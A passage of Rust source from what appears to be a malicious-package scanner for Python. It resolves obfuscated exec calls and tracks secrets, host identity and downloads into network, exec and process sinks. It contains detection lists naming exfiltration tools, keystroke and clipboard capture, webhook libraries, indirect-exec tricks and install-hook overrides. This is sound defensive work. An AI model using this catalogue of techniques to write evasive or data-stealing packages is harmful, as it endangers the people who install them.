//! Python semantics for the verdict: resolves what each call really calls (import
//! aliases, `x = exec`, `getattr(__builtins__, 'ex'+'ec')`, `globals()[...]`,
//! `vars(__builtins__)[...]`, `__import__(...)`), folds the strings it is given, tracks
//! data from sources (decoders, downloads, secrets, host identity) through variables,
//! lambdas and function returns into sinks (exec, the network, programs), and tells
//! module-level code (runs on import) from functions nobody at module level calls.

use std::collections::{HashMap, HashSet};

use tree_sitter::Node;

use super::fold::{Folder, string_value};
use super::signal::{Reach, Signal, SignalKind};
use crate::facts::{line_of, parse, text_of};
use crate::patterns::credential_location;

/// Data labels carried by values.
const DECODED: u8 = 1;
const DOWNLOADED: u8 = 2;
const SECRET: u8 = 4;
const HOST: u8 = 8;

/// Most nodes visited in one file (a hostile file can be huge and deep).
const MAX_NODES: usize = 2_000_000;

/// What one Python file contributes.
#[derive(Debug, Default)]
pub(crate) struct PyFacts {
    pub signals: Vec<Signal>,
    /// Modules it imports (dotted, with leading dots for relative imports).
    pub imports: Vec<String>,
    /// Code found in literals and decoded strings, to analyse in turn: (line, text, how).
    pub payloads: Vec<(u32, String, String)>,
    /// Whether the node budget ran out.
    pub truncated: bool,
    /// Line ranges (inclusive) of functions nothing at module level calls: text signals
    /// found there are passive too.
    pub passive_lines: Vec<(u32, u32)>,
}

impl PyFacts {
    /// The reach of a line of the file.
    pub(crate) fn reach_of_line(&self, line: u32) -> Reach {
        if self
            .passive_lines
            .iter()
            .any(|(start, end)| (*start..=*end).contains(&line))
        {
            Reach::OnCall
        } else {
            Reach::Always
        }
    }
}

/// What a resolved callee does.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Callee {
    Exec,
    Decoder,
    Network,
    Process,
    HostInfo,
    /// The working directory: sent along in beacons, read by every build.
    WorkingDir,
    Capture,
    Pip,
    Other,
}

fn classify(name: &str) -> Callee {
    let name = name
        .strip_prefix("builtins.")
        .or_else(|| name.strip_prefix("__builtins__."))
        .unwrap_or(name);
    let last = name.rsplit('.').next().unwrap_or(name);
    let module = name.rsplit_once('.').map(|(m, _)| m).unwrap_or("");
    let top = name.split('.').next().unwrap_or(name);
    match name {
        "exec" | "eval" | "execfile" | "runpy.run_path" | "runpy.run_module" => {
            return Callee::Exec;
        }
        "getpass.getuser" | "os.getlogin" | "socket.gethostname" | "socket.getfqdn"
        | "platform.node" | "uuid.getnode" => {
            return Callee::HostInfo;
        }
        // Build-platform code reads these everywhere; they count only when sent.
        "os.getcwd" | "os.getcwdb" | "os.uname" | "platform.uname" => return Callee::WorkingDir,
        "pip.main" | "pip._internal.main" | "pip._internal.cli.main.main" => return Callee::Pip,
        _ => {}
    }
    if matches!(top, "subprocess" | "pty" | "commands") && !last.starts_with(char::is_uppercase)
        || last == "Popen"
        || (module == "os"
            && (last == "system"
                || last == "popen"
                || last == "startfile"
                || last.starts_with("exec")
                || last.starts_with("spawn")))
        || last == "create_subprocess_shell"
        || last == "create_subprocess_exec"
        || last == "ShellExecuteW"
        || last == "ShellExecuteA"
        || last == "ShellExecute"
    {
        return Callee::Process;
    }
    let http_verb = matches!(
        last,
        "get"
            | "post"
            | "put"
            | "patch"
            | "delete"
            | "head"
            | "options"
            | "request"
            | "Session"
            | "session"
            | "Client"
            | "AsyncClient"
            | "stream"
            | "send"
            | "urlopen"
    );
    if matches!(top, "requests" | "httpx") && http_verb
        || name.starts_with("urllib.request.")
            && matches!(
                last,
                "urlopen" | "urlretrieve" | "Request" | "build_opener" | "OpenerDirector"
            )
        || matches!(
            top,
            "urllib3"
                | "aiohttp"
                | "ftplib"
                | "smtplib"
                | "telnetlib"
                | "websocket"
                | "websockets"
                | "pycurl"
                | "paramiko"
                | "discord_webhook"
                | "dhooks"
                | "httplib"
                | "urllib2"
        )
        || name.starts_with("http.client.")
        || name.starts_with("dns.resolver.")
        || matches!(
            name,
            "socket.socket"
                | "socket.create_connection"
                | "socket.gethostbyname"
                | "socket.getaddrinfo"
                | "urllib.urlopen"
                | "urllib.urlretrieve"
        )
        || matches!(last, "urlopen" | "urlretrieve")
    {
        return Callee::Network;
    }
    if matches!(
        last,
        "b64decode"
            | "b32decode"
            | "b85decode"
            | "a85decode"
            | "b16decode"
            | "urlsafe_b64decode"
            | "standard_b64decode"
            | "decodebytes"
            | "decodestring"
            | "unhexlify"
            | "a2b_base64"
            | "a2b_hex"
            | "fromhex"
            | "decrypt"
    ) || (last == "decompress" && matches!(top, "zlib" | "gzip" | "bz2" | "lzma"))
        || (last == "loads" && matches!(top, "marshal" | "pickle" | "dill"))
        || name == "codecs.decode"
    {
        return Callee::Decoder;
    }
    if matches!(
        last,
        "paste" | "GetClipboardData" | "clipboard_get" | "grab" | "screenshot" | "GetAsyncKeyState"
    ) && matches!(
        top,
        "pyperclip"
            | "win32clipboard"
            | "ImageGrab"
            | "PIL"
            | "pyautogui"
            | "tkinter"
            | "ctypes"
            | "mss"
    ) {
        return Callee::Capture;
    }
    Callee::Other
}

/// Programs that builds run: a process start naming one of these is the build, not an attack.
const BUILD_PROGRAMS: &[&str] = &[
    "gcc",
    "g++",
    "cc",
    "c++",
    "clang",
    "clang++",
    "make",
    "cmake",
    "ninja",
    "pkg-config",
    "git",
    "rustc",
    "cargo",
    "xcrun",
    "ldconfig",
    "uname",
    "which",
    "ar",
    "ld",
    "nvcc",
    "swig",
    "cython",
    "protoc",
    "sys.executable",
    "node",
    "npm",
    "gfortran",
    "nasm",
    "yasm",
    "meson",
    "autoreconf",
    "./configure",
    "sh ./configure",
    "hg",
    "svn",
    "lsb_release",
    "sw_vers",
    "llvm-config",
    "python-config",
    "icc",
    "cl",
    "cl.exe",
    "patch",
    "install_name_tool",
    "otool",
    "strip",
    "brew",
    "go",
    "javac",
    "mvn",
];

/// Words without which a Python file cannot do anything the rules look for (run code,
/// start programs, reach the network, decode, read secrets or host identity). A file
/// without any is not parsed: that keeps whole libraries cheap to judge.
const TRIGGERS: &[&str] = &[
    "exec",
    "eval",
    "system",
    "popen",
    "Popen",
    "subprocess",
    "spawn",
    "startfile",
    "socket",
    "urlopen",
    "urlretrieve",
    "request",
    "http",
    "urllib",
    "b64decode",
    "decode",
    "decompress",
    "marshal",
    "pickle",
    "getattr",
    "__import__",
    "import_module",
    "globals",
    "vars(",
    "environ",
    "getenv",
    "getuser",
    "gethostname",
    "getlogin",
    "platform",
    "uname",
    "pip",
    "setup(",
    "cmdclass",
    "chr(",
    "fromhex",
    "Fernet",
    "decrypt",
    "ctypes",
    "win32",
    "clipboard",
    "ImageGrab",
    "keyboard",
    "pynput",
    "webhook",
];

/// Whether `source` contains any word of [`TRIGGERS`].
pub(crate) fn worth_parsing(source: &str) -> bool {
    use std::sync::OnceLock;
    static MATCHER: OnceLock<aho_corasick::AhoCorasick> = OnceLock::new();
    MATCHER
        .get_or_init(|| {
            aho_corasick::AhoCorasick::new(TRIGGERS).expect("the constant trigger words build")
        })
        .is_match(source)
}

/// Analyses one Python file. `all_reached`: every function counts as run (setup.py and
/// payloads: what they define, they run).
pub(crate) fn analyse(source: &str, all_reached: bool) -> PyFacts {
    analyse_with_entries(source, all_reached, &[])
}

/// [`analyse`], with functions that something outside the file runs (console-script and
/// entry-point targets) counted as reached.
pub(crate) fn analyse_with_entries(source: &str, all_reached: bool, entries: &[String]) -> PyFacts {
    let mut facts = PyFacts::default();
    let language: tree_sitter::Language = tree_sitter_python::LANGUAGE.into();
    let Some(tree) = parse(&language, source) else {
        return facts;
    };
    let root = tree.root_node();
    let mut state = State {
        source,
        aliases: HashMap::new(),
        consts: HashMap::new(),
        taint: HashMap::new(),
        scope: 0,
        wrote_download: HashSet::new(),
        reached: HashSet::new(),
        all_reached,
        visited: 0,
    };
    let nodes = collect(root, source, &mut state.visited);
    facts.truncated = state.visited >= MAX_NODES;
    // Bindings first (twice: a binding may use one made further down).
    for _ in 0..2 {
        for item in &nodes {
            state.bind(item, &mut facts);
        }
    }
    state.reach(&nodes, entries);
    let mut seen_payloads = HashSet::new();
    for item in &nodes {
        let reach = if state.all_reached
            || item
                .function
                .as_ref()
                .is_none_or(|f| state.reached.contains(f))
        {
            Reach::Always
        } else {
            Reach::OnCall
        };
        state.scope = scope_of(item);
        match item.node.kind() {
            "call" => state.call(item.node, reach, &mut facts),
            "string" => state.literal(item.node, reach, &mut facts, &mut seen_payloads),
            "attribute" if text_of(item.node, source) == "os.environ" => {
                state.environ(item, reach, &mut facts)
            }
            _ => {}
        }
    }
    facts.signals.extend(identifier_shapes(&nodes, source));
    if !state.all_reached {
        for item in &nodes {
            if item.function.is_none()
                && matches!(item.node.kind(), "function_definition" | "class_definition")
            {
                let name = item
                    .node
                    .child_by_field_name("name")
                    .map(|n| text_of(n, source))
                    .unwrap_or("");
                if !state.reached.contains(name) {
                    let end = u32::try_from(item.node.end_position().row)
                        .unwrap_or(u32::MAX)
                        .saturating_add(1);
                    facts.passive_lines.push((line_of(item.node), end));
                }
            }
        }
    }
    facts
}

/// The modules a file imports, read from its lines without parsing (`import a.b`,
/// `from .x import y`): used for files not worth parsing, whose imports still run.
pub(crate) fn imports_by_text(source: &str) -> Vec<String> {
    let mut modules = Vec::new();
    for line in source.lines() {
        let line = line.trim_start();
        if let Some(rest) = line.strip_prefix("from ") {
            let mut words = rest.split_whitespace();
            let module = words.next().unwrap_or("");
            if words.next() == Some("import") {
                push_unique(&mut modules, module.to_owned());
                for name in words
                    .flat_map(|w| w.split(','))
                    .map(|w| w.trim_matches(|c| c == '(' || c == ')'))
                {
                    if !name.is_empty() && name != "as" && name != "*" {
                        let separator = if module.ends_with('.') { "" } else { "." };
                        push_unique(&mut modules, format!("{module}{separator}{name}"));
                    }
                }
            }
        } else if let Some(rest) = line.strip_prefix("import ") {
            for part in rest.split(',') {
                if let Some(module) = part.split_whitespace().next() {
                    push_unique(&mut modules, module.to_owned());
                }
            }
        }
    }
    modules
}

/// A node, its parent, the module-level function it sits in (`None`: module level) and
/// the innermost function around it. Parents are recorded while walking because
/// tree-sitter's `Node::parent` searches from the root each time.
struct Item<'t> {
    node: Node<'t>,
    parent: Option<Node<'t>>,
    function: Option<String>,
    innermost: Option<Node<'t>>,
}

/// A node still to visit: the node, its parent, its enclosing top-level function or class,
/// and its innermost enclosing function.
type Pending<'t> = (Node<'t>, Option<Node<'t>>, Option<String>, Option<Node<'t>>);

/// Every node in document order, with its enclosing top-level function or class (a
/// method's name is its class's: calling the class runs its methods).
fn collect<'t>(root: Node<'t>, source: &str, visited: &mut usize) -> Vec<Item<'t>> {
    let mut items = Vec::new();
    let mut stack: Vec<Pending<'t>> = vec![(root, None, None, None)];
    while let Some((node, parent, function, innermost)) = stack.pop() {
        *visited += 1;
        if *visited >= MAX_NODES {
            break;
        }
        let inner = match (&function, node.kind()) {
            (None, "function_definition" | "class_definition") => node
                .child_by_field_name("name")
                .map(|n| text_of(n, source).to_owned())
                .or(Some(String::new())),
            (None, "if_statement") if is_main_guard(node) => Some("__main__".to_owned()),
            _ => function.clone(),
        };
        let inner_function = if node.kind() == "function_definition" {
            Some(node)
        } else {
            innermost
        };
        items.push(Item {
            node,
            parent,
            function: function.clone(),
            innermost,
        });
        let mut cursor = node.walk();
        let children: Vec<Node<'t>> = node.children(&mut cursor).collect();
        for child in children.into_iter().rev() {
            stack.push((child, Some(node), inner.clone(), inner_function));
        }
    }
    items
}

fn is_main_guard(node: Node<'_>) -> bool {
    node.child_by_field_name("condition").is_some_and(|c| {
        let mut cursor = c.walk();
        let text: Vec<String> = c
            .children(&mut cursor)
            .map(|n| n.kind().to_owned())
            .collect();
        text.iter().any(|k| k == "comparison_operator") || c.kind() == "comparison_operator"
    }) && node
        .child_by_field_name("condition")
        .is_some_and(|c| c.byte_range().len() < 64)
}

struct State<'s> {
    source: &'s str,
    aliases: HashMap<String, String>,
    consts: HashMap<String, String>,
    /// Labels of names, per scope (0: module level, else the function node's id).
    taint: HashMap<(usize, String), u8>,
    /// The scope of the node being looked at.
    scope: usize,
    /// Scopes that write downloaded data to a file (`f.write(r.content)`, `urlretrieve`):
    /// a program they start may be that file.
    wrote_download: HashSet<usize>,
    reached: HashSet<String>,
    all_reached: bool,
    visited: usize,
}

impl<'s> State<'s> {
    fn text(&self, node: Node<'_>) -> &'s str {
        text_of(node, self.source)
    }

    fn folder(&self) -> Folder<'_> {
        Folder {
            source: self.source,
            consts: &self.consts,
        }
    }

    /// Imports, aliases, constants and taint from one binding node.
    fn bind(&mut self, item: &Item<'_>, facts: &mut PyFacts) {
        let node = item.node;
        self.scope = scope_of(item);
        match node.kind() {
            "import_statement" => {
                let mut cursor = node.walk();
                for name in node.children_by_field_name("name", &mut cursor) {
                    if name.kind() == "aliased_import" {
                        let (Some(module), Some(alias)) = (
                            name.child_by_field_name("name"),
                            name.child_by_field_name("alias"),
                        ) else {
                            continue;
                        };
                        let module = self.text(module).to_owned();
                        self.aliases
                            .insert(self.text(alias).to_owned(), module.clone());
                        push_unique(&mut facts.imports, module);
                    } else {
                        let module = self.text(name).to_owned();
                        push_unique(&mut facts.imports, module);
                    }
                }
            }
            "import_from_statement" => {
                let Some(module) = node.child_by_field_name("module_name") else {
                    return;
                };
                let module = self.text(module).to_owned();
                push_unique(&mut facts.imports, module.clone());
                let mut cursor = node.walk();
                for name in node.children_by_field_name("name", &mut cursor) {
                    let (imported, local) = if name.kind() == "aliased_import" {
                        match (
                            name.child_by_field_name("name"),
                            name.child_by_field_name("alias"),
                        ) {
                            (Some(n), Some(a)) => (self.text(n), self.text(a)),
                            _ => continue,
                        }
                    } else {
                        (self.text(name), self.text(name))
                    };
                    let dotted = format!("{}.{imported}", module.trim_start_matches('.'));
                    // `from . import x`, `from .m import x`, `from pkg import x`: x can be a
                    // module of the package.
                    let separator = if module.ends_with('.') { "" } else { "." };
                    push_unique(&mut facts.imports, format!("{module}{separator}{imported}"));
                    self.aliases.insert(local.to_owned(), dotted);
                }
            }
            "assignment" => self.assignment(node, facts),
            "call" => {
                let Some(function) = node.child_by_field_name("function") else {
                    return;
                };
                let last = last_name(self.text(function));
                let downloads_to_file = matches!(last.as_str(), "urlretrieve" | "download_file")
                    || matches!(
                        last.as_str(),
                        "write" | "write_bytes" | "writelines" | "copyfileobj"
                    ) && node
                        .child_by_field_name("arguments")
                        .is_some_and(|a| self.labels(a) & DOWNLOADED != 0);
                if downloads_to_file {
                    self.wrote_download.insert(self.scope);
                }
            }
            "with_item" => {
                // `with urlopen(u) as r:` binds r to what the call returns.
                let Some(value) = node.child_by_field_name("value") else {
                    return;
                };
                if value.kind() == "as_pattern" {
                    if let (Some(expr), Some(target)) =
                        (value.named_child(0), value.child_by_field_name("alias"))
                    {
                        let labels = self.labels(expr);
                        let name = self.text(target).trim().to_owned();
                        *self.taint.entry((self.scope, name)).or_default() |= labels;
                    }
                }
            }
            "return_statement" => {
                // A function returning decoded or downloaded data carries the label.
                let Some(value) = node.named_child(0) else {
                    return;
                };
                let labels = self.labels(value);
                if labels != 0 {
                    if let Some(name) = item.innermost.and_then(|f| f.child_by_field_name("name")) {
                        *self
                            .taint
                            .entry((0, self.text(name).to_owned()))
                            .or_default() |= labels;
                    }
                }
            }
            _ => {}
        }
    }

    fn assignment(&mut self, node: Node<'_>, facts: &mut PyFacts) {
        let (Some(left), Some(right)) = (
            node.child_by_field_name("left"),
            node.child_by_field_name("right"),
        ) else {
            return;
        };
        let pairs: Vec<(Node<'_>, Node<'_>)> =
            if matches!(left.kind(), "pattern_list" | "tuple_pattern")
                && matches!(right.kind(), "expression_list" | "tuple")
            {
                let l: Vec<Node<'_>> = (0..left.named_child_count())
                    .filter_map(|i| left.named_child(i))
                    .collect();
                let r: Vec<Node<'_>> = (0..right.named_child_count())
                    .filter_map(|i| right.named_child(i))
                    .collect();
                l.into_iter().zip(r).collect()
            } else {
                vec![(left, right)]
            };
        for (target, value) in pairs {
            let name = self.text(target).trim().to_owned();
            if target.kind() != "identifier" {
                // `self.x = ...`, `d[k] = ...`: taint follows the written text.
                let labels = self.labels(value);
                if labels != 0 {
                    *self.taint.entry((self.scope, name)).or_default() |= labels;
                }
                continue;
            }
            if let Some(text) = self.folder().fold(value) {
                self.consts.insert(name.clone(), text);
            }
            if matches!(
                value.kind(),
                "identifier" | "attribute" | "call" | "subscript"
            ) {
                if let Some(resolved) = self.resolve(value) {
                    let indirect = is_indirect_lookup(value, self.source);
                    if indirect && classify(&resolved) != Callee::Other {
                        facts.signals.push(Signal::new(
                            SignalKind::IndirectCall,
                            line_of(node),
                            Reach::Always,
                            format!("`{name}` is `{resolved}` looked up indirectly"),
                        ));
                    }
                    if classify(&resolved) != Callee::Other && value.kind() != "call"
                        || indirect
                        || self.imports_a_module(value)
                    {
                        self.aliases.insert(name.clone(), resolved);
                    }
                }
            }
            let labels = self.labels(value);
            if labels != 0 {
                *self.taint.entry((self.scope, name)).or_default() |= labels;
            }
        }
    }

    /// The functions module-level code reaches (by name, transitively).
    fn reach(&mut self, items: &[Item<'_>], entries: &[String]) {
        let mut calls: HashMap<Option<String>, HashSet<String>> = HashMap::new();
        for item in items {
            let name = match item.node.kind() {
                "call" => item
                    .node
                    .child_by_field_name("function")
                    .map(|f| last_name(self.text(f))),
                // A function handed to what runs it soon (`Thread(target=f)`,
                // `atexit.register(f)`): a reference in an argument list of those. Other
                // references (a class named in a registry, a base class) run nothing by
                // themselves, so libraries' classes stay passive.
                "identifier"
                    if item.parent.is_some_and(|p| {
                        p.kind() == "keyword_argument"
                            && p.child_by_field_name("name")
                                .is_some_and(|n| self.text(n) == "target")
                            || p.kind() == "argument_list"
                                && p.parent()
                                    .and_then(|call| call.child_by_field_name("function"))
                                    .is_some_and(|f| {
                                        matches!(
                                            last_name(self.text(f)).as_str(),
                                            "register"
                                                | "Thread"
                                                | "Process"
                                                | "Timer"
                                                | "start_new_thread"
                                        )
                                    })
                    }) =>
                {
                    Some(self.text(item.node).to_owned())
                }
                _ => None,
            };
            if let Some(name) = name {
                calls.entry(item.function.clone()).or_default().insert(name);
            }
        }
        let mut pending: Vec<String> = calls
            .get(&None)
            .map(|c| c.iter().cloned().collect())
            .unwrap_or_default();
        pending.extend(entries.iter().cloned());
        while let Some(name) = pending.pop() {
            if self.reached.insert(name.clone()) {
                if let Some(next) = calls.get(&Some(name)) {
                    pending.extend(next.iter().cloned());
                }
            }
        }
    }

    /// What a callee expression resolves to, as a dotted name.
    /// Whether `node` is a call of `__import__` or `importlib.import_module` (under any
    /// alias): its value is the module it names, and names bound to it are that module.
    fn imports_a_module(&self, node: Node<'_>) -> bool {
        node.kind() == "call"
            && node
                .child_by_field_name("function")
                .and_then(|function| self.resolve(function))
                .is_some_and(|f| f == "__import__" || f == "importlib.import_module")
    }

    fn resolve(&self, node: Node<'_>) -> Option<String> {
        match node.kind() {
            "identifier" => {
                let name = self.text(node);
                Some(
                    self.aliases
                        .get(name)
                        .cloned()
                        .unwrap_or_else(|| name.to_owned()),
                )
            }
            "attribute" => {
                let object = node.child_by_field_name("object")?;
                let attribute = self.text(node.child_by_field_name("attribute")?);
                let base = self.resolve(object)?;
                Some(strip_builtins(&format!("{base}.{attribute}")))
            }
            "parenthesized_expression" => self.resolve(node.named_child(0)?),
            "call" => {
                let function = self.resolve(node.child_by_field_name("function")?)?;
                let arguments = node.child_by_field_name("arguments")?;
                match function.as_str() {
                    "getattr" => {
                        let object = arguments.named_child(0)?;
                        let name = self.folder().fold(arguments.named_child(1)?)?;
                        let base = self.resolve(object).unwrap_or_default();
                        Some(strip_builtins(&format!("{base}.{name}")))
                    }
                    "__import__" | "importlib.import_module" => {
                        self.folder().fold(arguments.named_child(0)?)
                    }
                    // `Fernet(key).decrypt`, `requests.get(u).json`: what the call returns
                    // is named after the callable.
                    _ => Some(format!("{function}()")),
                }
            }
            "subscript" => {
                // globals()['exec'], vars(__builtins__)['exec'], __builtins__.__dict__['exec'],
                // sys.modules['os']
                let value = self
                    .text(node.child_by_field_name("value")?)
                    .replace(' ', "");
                let key = self.folder().fold(node.child_by_field_name("subscript")?)?;
                if [
                    "globals()",
                    "locals()",
                    "vars(__builtins__)",
                    "vars(builtins)",
                    "__builtins__.__dict__",
                    "builtins.__dict__",
                    "__builtins__",
                    "sys.modules",
                ]
                .contains(&value.as_str())
                {
                    Some(key)
                } else {
                    None
                }
            }
            _ => None,
        }
    }

    /// The labels of a name in the current scope, else at module level.
    fn tainted(&self, name: &str) -> u8 {
        let local = self
            .taint
            .get(&(self.scope, name.to_owned()))
            .copied()
            .unwrap_or(0);
        let global = self.taint.get(&(0, name.to_owned())).copied().unwrap_or(0);
        local | global
    }

    /// The labels of the data an expression yields.
    fn labels(&self, node: Node<'_>) -> u8 {
        let mut labels = 0;
        let mut stack = vec![node];
        let mut budget = 20_000usize;
        while let Some(current) = stack.pop() {
            budget = budget.saturating_sub(1);
            if budget == 0 {
                break;
            }
            match current.kind() {
                // One variable read (`os.environ.get('HOME')`, `os.environ['CC']`) is
                // configuration, not the environment; don't descend into the `os.environ`.
                "subscript"
                    if current
                        .child_by_field_name("value")
                        .is_some_and(|v| self.text(v) == "os.environ") =>
                {
                    let key = current
                        .child_by_field_name("subscript")
                        .and_then(|k| self.folder().fold(k));
                    labels |= env_key_labels(key.as_deref());
                    continue;
                }
                "call"
                    if current.child_by_field_name("function").is_some_and(|f| {
                        matches!(
                            self.text(f),
                            "os.environ.get"
                                | "os.getenv"
                                | "os.environ.setdefault"
                                | "os.environ.pop"
                                | "getenv"
                        )
                    }) =>
                {
                    labels |= env_key_labels(self.first_string(current).as_deref());
                    continue;
                }
                "call" => {
                    if let Some(function) = current.child_by_field_name("function") {
                        if let Some(name) = self.resolve(function) {
                            labels |= match classify(&name) {
                                Callee::Decoder => DECODED,
                                Callee::Network => DOWNLOADED,
                                Callee::HostInfo | Callee::WorkingDir => HOST,
                                Callee::Capture => SECRET,
                                _ => 0,
                            };
                        }
                        labels |= self.tainted(&last_name(self.text(function)));
                    }
                }
                "identifier" => {
                    let name = self.text(current);
                    labels |= self.tainted(name);
                    if secret_name(name) {
                        labels |= SECRET;
                    }
                }
                "attribute" => {
                    let text = self.text(current);
                    if text == "os.environ" {
                        labels |= SECRET;
                    }
                    labels |= self.tainted(text);
                }
                "string"
                    if string_value(current, self.source)
                        .is_some_and(|v| credential_location(&v).is_some()) =>
                {
                    labels |= SECRET;
                }
                _ => {}
            }
            for i in 0..current.named_child_count() {
                if let Some(child) = current.named_child(i) {
                    stack.push(child);
                }
            }
        }
        labels
    }

    /// Whether an expression contains a literal long enough to carry a payload.
    fn holds_blob(&self, node: Node<'_>) -> bool {
        let mut stack = vec![node];
        while let Some(current) = stack.pop() {
            if current.kind() == "string" && current.byte_range().len() >= 64 {
                return true;
            }
            stack.extend((0..current.named_child_count()).filter_map(|i| current.named_child(i)));
        }
        false
    }

    fn first_string(&self, call: Node<'_>) -> Option<String> {
        let first = call.child_by_field_name("arguments")?.named_child(0)?;
        self.folder().fold(first)
    }

    fn call(&self, node: Node<'_>, reach: Reach, facts: &mut PyFacts) {
        let line = line_of(node);
        let Some(function) = node.child_by_field_name("function") else {
            return;
        };
        let Some(name) = self.resolve(function) else {
            return;
        };
        let arguments = node.child_by_field_name("arguments");
        let callee = classify(&name);
        let written = self.text(function);
        if callee != Callee::Other && is_indirect(function, self.source) {
            facts.signals.push(Signal::new(
                SignalKind::IndirectCall,
                line,
                reach,
                format!(
                    "`{}` is `{name}` reached indirectly",
                    crate::shorten(written, 80)
                ),
            ));
        }
        let labels = arguments.map(|a| self.labels(a)).unwrap_or(0);
        let folded_args: Vec<String> = arguments
            .map(|a| {
                (0..a.named_child_count())
                    .filter_map(|i| a.named_child(i))
                    .filter_map(|n| self.fold_arg(n))
                    .collect()
            })
            .unwrap_or_default();
        match callee {
            Callee::Exec => self.exec(node, &name, labels, reach, facts),
            Callee::Network => {
                if labels & (SECRET | HOST) != 0 {
                    facts.signals.push(Signal::new(
                        SignalKind::ExfilFlow,
                        line,
                        reach,
                        format!("`{name}` sends {}", describe(labels)),
                    ));
                }
                facts.signals.push(Signal::new(
                    SignalKind::Network,
                    line,
                    reach,
                    format!("`{name}`"),
                ));
            }
            Callee::Process => {
                let command = folded_args.join(" ");
                let program = first_word(&command);
                // A downloaded archive unpacked or a binary made executable is how
                // prebuilt binaries arrive; running the download itself is not.
                let unpacks = ["tar", "unzip", "chmod", "7z", "gzip", "xz"]
                    .contains(&program.as_str())
                    || BUILD_PROGRAMS.contains(&program.as_str())
                        && !command.contains("sys.executable");
                if labels & DOWNLOADED != 0 || self.wrote_download.contains(&self.scope) && !unpacks
                {
                    facts.signals.push(Signal::new(
                        SignalKind::DownloadRun,
                        line,
                        reach,
                        format!("`{name}` runs what was downloaded"),
                    ));
                }
                if labels & DECODED != 0 {
                    facts.signals.push(Signal::new(
                        SignalKind::ExecDecoded,
                        line,
                        reach,
                        format!("`{name}` runs a decoded command"),
                    ));
                }
                if labels & (SECRET | HOST) != 0
                    && ["curl", "wget", "nslookup", "dig", "ping", "host"]
                        .contains(&program.as_str())
                {
                    facts.signals.push(Signal::new(
                        SignalKind::ExfilFlow,
                        line,
                        reach,
                        format!("`{program}` is given {}", describe(labels)),
                    ));
                }
                if command.contains("pip") && command.contains("install") {
                    facts.signals.push(Signal::new(
                        SignalKind::SecondStage,
                        line,
                        reach,
                        format!("runs `{}`", crate::shorten(&command, 100)),
                    ));
                } else if !BUILD_PROGRAMS.contains(&program.as_str())
                    && !command.contains("sys.executable")
                {
                    let shown = if command.is_empty() {
                        written.to_owned()
                    } else {
                        command.clone()
                    };
                    facts.signals.push(Signal::new(
                        SignalKind::ProcessExec,
                        line,
                        reach,
                        format!("`{name}` runs `{}`", crate::shorten(&shown, 100)),
                    ));
                }
                if !command.is_empty() {
                    facts
                        .payloads
                        .push((line, command, format!("command line of `{name}`")));
                }
            }
            Callee::HostInfo => facts.signals.push(Signal::new(
                SignalKind::HostRecon,
                line,
                reach,
                format!("`{name}()`"),
            )),
            Callee::Capture => facts.signals.push(Signal::new(
                SignalKind::Surveillance,
                line,
                reach,
                format!("`{name}`"),
            )),
            Callee::Pip => facts.signals.push(Signal::new(
                SignalKind::SecondStage,
                line,
                reach,
                format!("`{name}` installs more packages"),
            )),
            Callee::Decoder
                if is_deserializer(&name)
                    && (labels & DOWNLOADED != 0
                        || labels & DECODED != 0
                            && arguments.is_some_and(|a| self.holds_blob(a))) =>
            {
                facts.signals.push(Signal::new(
                    SignalKind::ExecDecoded,
                    line,
                    reach,
                    format!("`{name}` runs decoded data (unpickling runs code)"),
                ));
            }
            Callee::Decoder | Callee::WorkingDir | Callee::Other => {}
        }
        if name == "setup" || name.ends_with(".setup") {
            self.setup_call(node, facts);
        }
    }

    /// A call argument as a string: folded, or the name of a variable (for commands).
    fn fold_arg(&self, node: Node<'_>) -> Option<String> {
        match node.kind() {
            "list" | "tuple" => Some(
                (0..node.named_child_count())
                    .filter_map(|i| node.named_child(i))
                    .map(|n| {
                        self.folder()
                            .fold(n)
                            .unwrap_or_else(|| self.text(n).to_owned())
                    })
                    .collect::<Vec<_>>()
                    .join(" "),
            ),
            "keyword_argument" => None,
            _ => self
                .folder()
                .fold(node)
                .or_else(|| Some(self.text(node).to_owned())),
        }
    }

    fn exec(&self, node: Node<'_>, name: &str, labels: u8, reach: Reach, facts: &mut PyFacts) {
        let line = line_of(node);
        let Some(first) = node
            .child_by_field_name("arguments")
            .and_then(|a| a.named_child(0))
        else {
            return;
        };
        let arg = crate::shorten(&self.text(first).replace('\n', " "), 80);
        if labels & DOWNLOADED != 0 {
            facts.signals.push(Signal::new(
                SignalKind::ExecDownloaded,
                line,
                reach,
                format!("`{name}` runs downloaded code: `{arg}`"),
            ));
        } else if labels & DECODED != 0 {
            facts.signals.push(Signal::new(
                SignalKind::ExecDecoded,
                line,
                reach,
                format!("`{name}` runs decoded data: `{arg}`"),
            ));
        } else if let Some(code) = self.folder().fold(first) {
            if first.kind() == "string" {
                facts.signals.push(Signal::new(
                    SignalKind::DynamicExec,
                    line,
                    reach,
                    format!("`{name}` of a code string"),
                ));
            } else {
                facts.signals.push(Signal::new(
                    SignalKind::ExecBuilt,
                    line,
                    reach,
                    format!("`{name}` runs a string built at run time: `{arg}`"),
                ));
            }
            facts
                .payloads
                .push((line, code, format!("code given to `{name}`")));
        } else if !reads_a_file(self.text(first)) {
            facts.signals.push(Signal::new(
                SignalKind::DynamicExec,
                line,
                reach,
                format!("`{name}` of `{arg}`"),
            ));
        }
    }

    /// `setup(cmdclass={'install': ...})`: an install command replaced by the package's own.
    fn setup_call(&self, node: Node<'_>, facts: &mut PyFacts) {
        let Some(arguments) = node.child_by_field_name("arguments") else {
            return;
        };
        for i in 0..arguments.named_child_count() {
            let Some(argument) = arguments.named_child(i) else {
                continue;
            };
            if argument.kind() != "keyword_argument"
                || argument.child_by_field_name("name").map(|n| self.text(n)) != Some("cmdclass")
            {
                continue;
            }
            let text = argument
                .child_by_field_name("value")
                .map(|v| self.text(v))
                .unwrap_or("");
            let overridden: Vec<&str> = [
                "install",
                "develop",
                "egg_info",
                "build_py",
                "sdist",
                "bdist_wheel",
                "bdist_egg",
            ]
            .into_iter()
            .filter(|c| {
                text.contains(&format!("'{c}'"))
                    || text.contains(&format!("\"{c}\""))
                    || text.contains(&format!("{c}="))
            })
            .collect();
            if !overridden.is_empty() {
                facts.signals.push(Signal::new(
                    SignalKind::InstallOverride,
                    line_of(argument),
                    Reach::Always,
                    format!("setup() replaces the `{}` command", overridden.join("`, `")),
                ));
            }
        }
    }

    fn environ(&self, item: &Item<'_>, reach: Reach, facts: &mut PyFacts) {
        let node = item.node;
        let Some(parent) = item.parent else {
            return;
        };
        let key = match parent.kind() {
            "subscript" => parent
                .child_by_field_name("subscript")
                .and_then(|k| self.folder().fold(k)),
